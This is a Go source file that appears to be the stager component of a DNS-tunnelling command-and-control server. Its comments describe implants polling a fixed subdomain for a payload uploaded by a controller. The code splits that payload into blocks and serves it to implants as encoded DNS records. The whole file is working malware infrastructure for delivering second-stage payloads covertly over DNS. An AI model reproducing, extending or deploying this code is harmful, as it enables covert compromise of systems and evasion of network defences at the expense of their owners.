package tunnel

import (
	"sync"

	"github.com/miekg/dns"
)

// stageSubdomain is the fixed leftmost label early-boot implants poll for
// a cached stage payload under, before any registry registration exists.
const stageSubdomain = "7812"

// StageClient serves a one-time payload uploaded by a controller to any
// implant polling for a stage before it has registered. One StageClient is
// cached per server_id in Registry.stagers; a zero-value StageClient (no
// data) is handed back for server_ids with nothing staged yet.
type StageClient struct {
	mu       sync.Mutex
	data     []byte
	ts       int64
	blocks   map[Encoder]*BlockSizedData
}

// NewStageClient wraps data (nil for the registry's empty default stager).
func NewStageClient(data []byte) *StageClient {
	return &StageClient{data: data, blocks: make(map[Encoder]*BlockSizedData)}
}

func (c *StageClient) RequestDataHeader(enc Encoder) []dns.RR {
	c.mu.Lock()
	defer c.mu.Unlock()
	return enc.EncodeDataHeader(stageSubdomain, len(c.data))
}

func (c *StageClient) RequestData(index int, enc Encoder) []dns.RR {
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.data) == 0 {
		return enc.EncodeFinishSend()
	}
	block, ok := c.blocks[enc]
	if !ok {
		block = NewBlockSizedData(c.data, enc.MaxPacketSize())
		c.blocks[enc] = block
	}
	_, chunk, err := block.Get(index)
	if err != nil {
		return nil
	}
	rrs, err := enc.EncodePacket(chunk)
	if err != nil {
		return nil
	}
	return rrs
}

func (c *StageClient) touch(now int64) {
	c.mu.Lock()
	c.ts = now
	c.mu.Unlock()
}

func (c *StageClient) lastSeen() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ts
}
